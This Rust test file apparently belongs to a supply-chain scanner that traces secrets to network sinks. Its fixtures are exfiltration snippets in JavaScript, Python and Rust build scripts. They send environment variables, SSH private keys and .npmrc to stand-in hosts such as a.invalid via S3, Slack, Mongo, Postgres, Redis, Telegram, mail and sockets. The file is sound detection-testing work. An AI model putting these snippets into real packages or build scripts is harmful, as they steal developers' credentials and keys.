//! What clients of services send, and where to.

use crate::flow::testing::{found, script, wheel};
use crate::unpack::{Entry, text_file};
use customs_model::{SinkKind, SourceKind, Target};

/// Where a secret is sent to, if one is.
fn sent_to(entries: Vec<Entry>) -> Option<Target> {
    let mut flows = found(entries).flows.into_iter();
    let secret = |kind| {
        matches!(
            kind,
            SourceKind::Environment | SourceKind::CredentialFile | SourceKind::NamedSecret
        )
    };
    let sent = flows.find(|flow| flow.sink == SinkKind::Network && secret(flow.source))?;
    Some(sent.target)
}

fn build_script(code: &str) -> Vec<Entry> {
    vec![
        text_file(
            "a-1.0.0/Cargo.toml",
            "[package]\nname = \"a\"\nversion = \"1.0.0\"\n",
        ),
        text_file("a-1.0.0/build.rs", code),
    ]
}

fn named(host: &str) -> Option<Target> {
    Some(Target::Constant(host.to_owned()))
}

#[test]
fn what_a_client_of_javascript_gets_goes_where_it_was_made_for() {
    let all = "JSON.stringify(process.env)";
    for code in [
        format!(
            "const {{ S3Client, PutObjectCommand }} = require('@aws-sdk/client-s3'); const c = new S3Client({{ endpoint: 'https://a.invalid' }}); c.send(new PutObjectCommand({{ Bucket: 'b', Body: {all} }}))"
        ),
        format!(
            "const AWS = require('aws-sdk'); new AWS.S3({{ endpoint: 'https://a.invalid' }}).putObject({{ Bucket: 'b', Body: {all} }})"
        ),
        format!(
            "const {{ WebClient }} = require('@slack/web-api'); new WebClient('xoxb-1', {{ slackApiUrl: 'https://a.invalid/api/' }}).chat.postMessage({{ text: {all} }})"
        ),
        "const { MongoClient } = require('mongodb'); (async () => { const c = await MongoClient.connect('mongodb://u:p@a.invalid/'); await c.db('a').collection('e').insertOne({ ...process.env }) })()".to_owned(),
        format!(
            "const {{ Client }} = require('pg'); const c = new Client({{ host: 'a.invalid' }}); c.query('insert into t values ($1)', [{all}])"
        ),
        format!("require('mqtt').connect('mqtt://a.invalid').publish('t', {all})"),
        format!("const Redis = require('ioredis'); new Redis('redis://a.invalid').set('k', {all})"),
        format!(
            "const {{ createClient }} = require('@supabase/supabase-js'); createClient('https://a.invalid', 'k').from('t').insert({{ e: {all} }})"
        ),
        format!(
            "const {{ initializeApp }} = require('firebase/app'); const {{ getDatabase, ref, push }} = require('firebase/database'); push(ref(getDatabase(initializeApp({{ databaseURL: 'https://a.invalid' }})), 'v'), {all})"
        ),
    ] {
        assert_eq!(sent_to(script(&code)), named("a.invalid"), "{code}");
    }
    let telegram = format!(
        "const {{ Telegraf }} = require('telegraf'); new Telegraf('123:abcdef').telegram.sendMessage(1, {all})"
    );
    assert_eq!(sent_to(script(&telegram)), named("api.telegram.org"));
}

#[test]
fn a_client_that_its_caller_sets_up_goes_where_he_says() {
    let all = "JSON.stringify(process.env)";
    for code in [
        format!(
            "const {{ S3Client, PutObjectCommand }} = require('@aws-sdk/client-s3'); const c = new S3Client({{ region: 'us-east-1' }}); c.send(new PutObjectCommand({{ Bucket: 'b', Body: {all} }}))"
        ),
        format!(
            "const {{ WebClient }} = require('@slack/web-api'); new WebClient(process.env.SLACK_TOKEN).chat.postMessage({{ text: {all} }})"
        ),
        format!(
            "const {{ Client }} = require('pg'); const c = new Client(process.env.DATABASE); c.query('insert into t values ($1)', [{all}])"
        ),
    ] {
        assert_eq!(sent_to(script(&code)), Some(Target::Caller), "{code}");
    }
    let nothing = "const { Client } = require('pg'); const c = new Client({ host: 'a.invalid' }); c.query('select 1', [process.version])";
    assert_eq!(sent_to(script(nothing)), None);
}

#[test]
fn a_message_takes_the_files_along_that_it_names() {
    let mail = "const os = require('os'); const t = require('nodemailer').createTransport({ host: 'm.a.invalid' });";
    let listed = format!(
        "{mail} const attachments = ['id_rsa', 'id_dsa'].map((n) => ({{ filename: n, path: os.homedir() + '/.ssh/' + n }})); t.sendMail({{ subject: 's', attachments }})"
    );
    assert_eq!(sent_to(script(&listed)), named("m.a.invalid"));
    let one =
        format!("{mail} t.sendMail({{ attachments: [{{ path: os.homedir() + '/.npmrc' }}] }})");
    assert_eq!(sent_to(script(&one)), named("m.a.invalid"));
    let own =
        format!("{mail} t.sendMail({{ attachments: [{{ path: __dirname + '/logo.png' }}] }})");
    assert_eq!(sent_to(script(&own)), None);
}

#[test]
fn what_clients_of_python_get_goes_where_they_were_made_for() {
    let all = "str(dict(os.environ))";
    for code in [
        format!(
            "import os, ssl, socket\ns = ssl.create_default_context().wrap_socket(socket.create_connection(('a.invalid', 443), 3), server_hostname='a.invalid')\ns.sendall({all}.encode())\n"
        ),
        format!(
            "import os, ssl, socket\nc = ssl.SSLContext()\nx = socket.socket()\nx.connect(('a.invalid', 443))\ns = c.wrap_socket(x, server_hostname='a.invalid')\ns.send({all}.encode())\n"
        ),
        format!(
            "import os, pymongo\npymongo.MongoClient('mongodb://a.invalid').a.b.insert_one({{'e': {all}}})\n"
        ),
        format!("import os, redis\nredis.Redis(host='a.invalid').set('k', {all})\n"),
        format!(
            "import os, psycopg2\nc = psycopg2.connect(host='a.invalid', dbname='d')\nc.cursor().execute('insert', [{all}])\n"
        ),
    ] {
        assert_eq!(sent_to(wheel(&code)), named("a.invalid"), "{code}");
    }
    let callers =
        format!("import os, redis\nredis.Redis(host=os.environ['REDIS']).set('k', {all})\n");
    assert_eq!(sent_to(wheel(&callers)), Some(Target::Caller));
}

#[test]
fn what_clients_of_rust_get_goes_where_they_were_made_for() {
    let vars = "let v: Vec<String> = std::env::vars().map(|p| p.1).collect();";
    let socket = format!(
        "use tungstenite::{{connect, Message}};\nfn main() {{ if let Ok((mut s, _)) = connect(\"wss://ws.a.invalid/b\") {{ {vars} let _ = s.send(Message::Text(v.join(\"\\n\"))); }} }}"
    );
    assert_eq!(sent_to(build_script(&socket)), named("ws.a.invalid"));
    let mail = format!(
        "use lettre::{{Message, SmtpTransport, Transport}};\nfn main() {{ {vars} let m = Message::builder().subject(\"b\").body(v.join(\"\\n\")).unwrap(); let _ = SmtpTransport::relay(\"ml.a.invalid\").unwrap().build().send(&m); }}"
    );
    assert_eq!(sent_to(build_script(&mail)), named("ml.a.invalid"));
    let quiet = "use lettre::{Message, SmtpTransport, Transport};\nfn main() { let m = Message::builder().subject(\"b\").body(\"x\".to_owned()).unwrap(); let _ = SmtpTransport::relay(\"ml.a.invalid\").unwrap().build().send(&m); }";
    assert_eq!(sent_to(build_script(quiet)), None);
}
